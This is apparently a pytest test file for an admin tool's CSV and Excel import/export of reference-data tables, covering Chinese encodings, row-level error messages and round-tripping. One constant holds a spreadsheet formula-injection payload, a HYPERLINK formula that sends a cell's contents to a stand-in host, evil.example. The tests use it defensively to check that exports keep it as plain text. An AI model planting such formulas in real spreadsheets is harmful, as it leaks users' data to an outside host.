"""参数表 import and export as a sysadmin does it with Excel (issue 16): a CSV saved by Chinese Excel (GBK), one
saved as "CSV UTF-8" (with BOM), an .xlsx; the .xlsx export opened cell by cell and imported back unchanged."""
import io
from urllib.parse import quote

import openpyxl
import pytest
import sqlalchemy as sa

from app.extensions import db
from app.refdata import search
from app.refdata.models import CodeEntry
from tests.support import csrf_token, post

HEADER = ["code", "name_zh", "name_en", "category", "active", "sort", "attrs", "source"]
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


@pytest.fixture
def sysadmin(client, cast, log_in):
    log_in("root_admin")
    return client


def _upload(client, table, data: bytes, filename: str):
    token = csrf_token(client.get(f"/admin/refdata/{table}").get_data(as_text=True))
    return client.post(f"/admin/refdata/{table}/import", content_type="multipart/form-data",
                       data={"csrf_token": token, "file": (io.BytesIO(data), filename)})


def _flash(client, response) -> str:
    assert response.status_code == 302, response.get_data(as_text=True)[:800]
    return client.get(response.headers["Location"]).get_data(as_text=True)


def _xlsx(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv(lines: list[str]) -> str:
    return "\r\n".join([",".join(HEADER)] + lines) + "\r\n"


def test_it_imports_a_csv_that_chinese_excel_saved_in_gbk(app, sysadmin):
    data = _csv(["QTL,公担,QUINTALS,,1,50,\"{\"\"kg_factor\"\":100}\",本地整理", "KGS,公斤,KILOGRAMS,,是,1,{},本地"])
    response = _upload(sysadmin, "weight_unit", data.encode("gbk"), "重量单位.csv")
    assert "导入完成：新增 1 条，更新 1 条。" in _flash(sysadmin, response)
    with app.app_context():
        assert search.get("weight_unit", "QTL").name_zh == "公担"
        assert search.get("weight_unit", "QTL").source == "本地整理"
        assert search.get("weight_unit", "QTL").attrs == {"kg_factor": 100}
        assert search.get("weight_unit", "KGS").name_zh == "公斤"


def test_it_imports_gb18030_and_utf8_with_or_without_a_bom(app, sysadmin):
    for encoding, name in (("gb18030", "㐀重"), ("utf-8-sig", "公担乙"), ("utf-8", "公担丙")):
        response = _upload(sysadmin, "weight_unit", _csv([f"QTL,{name},QUINTALS,,1,50,{{}},t"]).encode(encoding),
                           "w.csv")
        assert "导入完成" in _flash(sysadmin, response)
        with app.app_context():
            assert search.get("weight_unit", "QTL").name_zh == name, encoding


def test_a_gbk_file_with_bad_lines_names_each_line_and_changes_nothing(app, sysadmin):
    data = _csv(["QTL,公担,QUINTALS,,1,50,{},t", ",无代码,,,1,,,", "KGS,公斤,KILOGRAMS,,也许,,,"]).encode("gbk")
    response = _upload(sysadmin, "weight_unit", data, "bad.csv")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "第 3 行：代码不能为空" in html and "第 4 行：active 应为 1 或 0" in html
    with app.app_context():
        assert search.get("weight_unit", "QTL") is None
        assert search.get("weight_unit", "KGS").name_zh == "千克"


def test_it_imports_an_xlsx_with_numbers_blank_rows_and_columns_in_any_order(app, sysadmin):
    data = _xlsx([["name_zh", "code", "sort", "active", "source"],
                  ["公担", "QTL", 50, 1, "本地"],
                  [None, None, None, None, None],  # a blank row Excel leaves in
                  ["公斤", "KGS", 1.0, "1", "本地"]])
    assert "导入完成：新增 1 条，更新 1 条。" in _flash(sysadmin, _upload(sysadmin, "weight_unit", data, "units.xlsx"))
    with app.app_context():
        stored = {e.code: (e.name_zh, e.sort, e.source) for e in db.session.scalars(
            sa.select(CodeEntry).where(CodeEntry.table == "weight_unit", CodeEntry.code.in_(("QTL", "KGS"))))}
    assert stored == {"QTL": ("公担", 50, "本地"), "KGS": ("公斤", 1, "本地")}


def test_an_xlsx_with_bad_rows_names_each_row_as_excel_numbers_it(app, sysadmin):
    data = _xlsx([HEADER, ["QTL", "公担", "", "", 1, 50, "{}", "t"], [None] * 8,
                  ["", "无代码", "", "", 1, None, None, None], ["KGS", "公斤", "", "", "也许", "x", "[1]", ""]])
    response = _upload(sysadmin, "weight_unit", data, "bad.xlsx")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "第 4 行：代码不能为空" in html  # row 3 is blank, as Excel shows it
    assert "第 5 行：active 应为 1 或 0" in html and "第 5 行：sort 应为整数" in html
    with app.app_context():
        assert search.get("weight_unit", "QTL") is None


@pytest.mark.parametrize("data, filename, message", [
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old.xls", "不支持旧版 Excel（.xls）文件"),
    (b"PK\x03\x04 not really a zip", "broken.xlsx", "无法读取 Excel 文件"),
    (b"", "empty.csv", "文件中没有数据"),
])
def test_a_file_that_is_not_a_table_is_refused_with_the_reason(sysadmin, data, filename, message):
    response = _upload(sysadmin, "weight_unit", data, filename)
    assert response.status_code == 422 and message in response.get_data(as_text=True)


def test_an_xlsx_with_more_rows_than_allowed_is_refused_as_a_whole(app, sysadmin):
    app.config["REFDATA_IMPORT_MAX_ROWS"] = 5
    data = _xlsx([HEADER] + [[f"Q{i}", f"测{i}", "", "", 1, 1, "{}", "t"] for i in range(6)])
    response = _upload(sysadmin, "weight_unit", data, "many.xlsx")
    assert response.status_code == 422 and "文件超过 5 行的上限，未导入任何数据" in response.get_data(as_text=True)
    with app.app_context():
        assert search.get("weight_unit", "Q0") is None


def _edit_transport_mode(app, client, **values):
    with app.app_context():
        entry_id = db.session.scalar(sa.select(CodeEntry.id).where(CodeEntry.table == "transport_mode",
                                                                    CodeEntry.code == "2"))
    url = f"/admin/refdata/transport_mode/{entry_id}"
    data = {"code": "2", "name_zh": "水路运输", "name_en": "Sea", "category": "", "sort": "1",
            "attrs": '{"phrase": "BY SEA"}', "source": "local", "active": "y", **values}
    assert post(client, url, data, url).status_code == 302


def test_the_xlsx_export_has_the_csv_columns_cell_by_cell(app, sysadmin):
    _edit_transport_mode(app, sysadmin, name_en=EVIL, sort="-3")
    response = sysadmin.get("/admin/refdata/transport_mode/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Cache-Control"] == "no-store"
    assert f"filename*=UTF-8''{quote('参数表_运输方式_transport_mode.xlsx')}" in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book["运输方式"]
    assert [c.value for c in sheet[1]] == HEADER
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    with app.app_context():
        assert len(rows) == db.session.scalar(sa.select(sa.func.count()).select_from(CodeEntry)
                                              .where(CodeEntry.table == "transport_mode"))
    sea = rows["2"]
    assert sea[0].value == "2" and sea[1].value == "水路运输"
    assert sea[2].value == EVIL and sea[2].data_type == "s"  # text, not a formula
    assert sea[3].value is None and sea[4].value == "1" and sea[5].value == -3
    assert sea[6].value == '{"phrase":"BY SEA"}' and sea[7].value == "local"
    assert sea[0].number_format == "@"  # the code column stays text when edited in Excel


def test_an_exported_xlsx_imports_back_unchanged(app, sysadmin):
    _edit_transport_mode(app, sysadmin, name_en=EVIL, name_zh="'=已加引号")
    data = sysadmin.get("/admin/refdata/transport_mode/export.xlsx").get_data()
    response = _upload(sysadmin, "transport_mode", data, "运输方式.xlsx")
    assert "导入完成：新增 0 条" in _flash(sysadmin, response)
    with app.app_context():
        entry = search.get("transport_mode", "2")
        assert (entry.name_en, entry.name_zh, entry.attrs) == (EVIL, "'=已加引号", {"phrase": "BY SEA"})


def test_an_exported_csv_opens_in_excel_with_its_chinese(sysadmin):
    response = sysadmin.get("/admin/refdata/transport_mode/export.csv")
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel then reads the file as UTF-8
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "水路运输" in body.decode("utf-8-sig")


def test_the_table_page_offers_both_exports_as_plain_links(sysadmin):
    html = sysadmin.get("/admin/refdata/transport_mode").get_data(as_text=True)
    assert 'href="/admin/refdata/transport_mode/export.csv" hx-boost="false" download' in html
    assert 'href="/admin/refdata/transport_mode/export.xlsx" hx-boost="false" download' in html
    assert "导入 CSV 或 Excel" in html and 'accept=".csv,.xlsx' in html
